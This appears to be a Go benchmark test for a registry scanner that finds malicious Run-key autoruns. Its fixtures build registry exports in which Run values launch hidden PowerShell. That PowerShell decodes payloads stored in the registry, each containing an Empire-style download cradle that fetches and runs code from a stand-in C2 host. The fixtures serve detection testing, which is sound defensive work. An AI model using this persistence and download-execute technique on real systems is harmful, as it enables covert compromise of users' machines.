package runkeypayloads

import (
	"context"
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/runkeyhunt/runkeyhunt/tables/registry/hivefile/hivetest"
)

// benchStager is an Empire-style download cradle: 16 of them, behind a
// per-value header, make each user's payload 4.8 KB of base64.
const benchStager = "$wc=New-Object System.Net.WebClient;IEX $wc.DownloadString('http://c2.example.invalid/admin/get.php')"

func benchUTF16Base64(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// userRegText is one user's Run key and payloads as .reg text under root
// (HKEY_USERS\<SID> or HKEY_CURRENT_USER): 40 Run values whose PowerShell
// reads its own registry payload. Every payload differs, as across real
// users: nothing repeated flatters the scan.
func userRegText(root string, u, autoruns int) string {
	q := func(s string) string {
		return `"` + strings.ReplaceAll(strings.ReplaceAll(s, `\`, `\\`), `"`, `\"`) + `"`
	}
	var b strings.Builder
	b.WriteString("Windows Registry Editor Version 5.00\r\n")
	fmt.Fprintf(&b, "\r\n[%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n", root)
	for v := range autoruns {
		cmd := fmt.Sprintf(`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -c "$x=$((gp HKCU:Software\P%d Debug).Debug);powershell -Win Hidden -enc $x"`, v)
		fmt.Fprintf(&b, "%s=%s\r\n", q(fmt.Sprintf("V%d", v)), q(cmd))
	}
	for v := range autoruns {
		payload := benchUTF16Base64(fmt.Sprintf("# user %d value %d\n", u, v) + strings.Repeat(benchStager+";", 16))
		fmt.Fprintf(&b, "\r\n[%s\\Software\\P%d]\r\n\"Debug\"=%s\r\n", root, v, q(payload))
	}
	return b.String()
}

// writeUsersExport writes the set as .reg exports: one per user
// (HKEY_USERS\<SID>), and a ProfileList naming the users.
func writeUsersExport(tb testing.TB, dir string, users, autoruns int) {
	tb.Helper()
	var profiles strings.Builder
	profiles.WriteString("Windows Registry Editor Version 5.00\r\n")
	for u := range users {
		sid := fmt.Sprintf("S-1-5-21-1111111111-2222222222-3333333333-%d", 1000+u)
		fmt.Fprintf(&profiles, "\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList\\%s]\r\n\"ProfileImagePath\"=\"C:\\\\Users\\\\user%02d\"\r\n", sid, u)
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("user%02d.reg", u)), []byte(userRegText(`HKEY_USERS\`+sid, u, autoruns)), 0o600); err != nil {
			tb.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "profilelist.reg"), []byte(profiles.String()), 0o600); err != nil {
		tb.Fatal(err)
	}
}

// writeUsersHives writes the same set as a triage collection: one real
// NTUSER.DAT per user under C/Users/<name> (reged builds them).
func writeUsersHives(tb testing.TB, dir string, users, autoruns int) {
	tb.Helper()
	for u := range users {
		at := filepath.Join(dir, "C", "Users", fmt.Sprintf("user%02d", u))
		if err := os.MkdirAll(at, 0o755); err != nil {
			tb.Fatal(err)
		}
		hivetest.BuildUserHiveAt(tb, at, userRegText("HKEY_CURRENT_USER", u, autoruns))
	}
}

// BenchmarkRunKeyPayloads is run_key_payloads over 20 users x 40 autoruns
// end to end, as a query computes it: the source expanded, the .reg
// exports or hives read into a registry view, every location scanned,
// each payload followed, decoded and scored, the rows rendered. Issue 15's
// goal: under 50 ms on one core (-cpu 1).
func BenchmarkRunKeyPayloads(b *testing.B) {
	for _, c := range []struct {
		name  string
		write func(testing.TB, string, int, int)
	}{{"reg", writeUsersExport}, {"hives", writeUsersHives}} {
		b.Run(c.name, func(b *testing.B) {
			if c.name == "hives" {
				hivetest.RequireTools(b)
			}
			dir := b.TempDir()
			c.write(b, dir, 20, 40)
			table := New(Options{})
			b.ReportAllocs()
			var rows []map[string]string
			for b.Loop() {
				var err error
				rows, err = table.Rows(context.Background(), map[string]string{"source": dir})
				if err != nil {
					b.Fatal(err)
				}
			}
			if len(rows) != 800 || rows[0]["verdict"] != "malicious" || rows[0]["payload_exists"] != "1" {
				b.Fatalf("%d rows, first %v", len(rows), rows[0])
			}
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/1e6, "ms/scan")
		})
	}
}
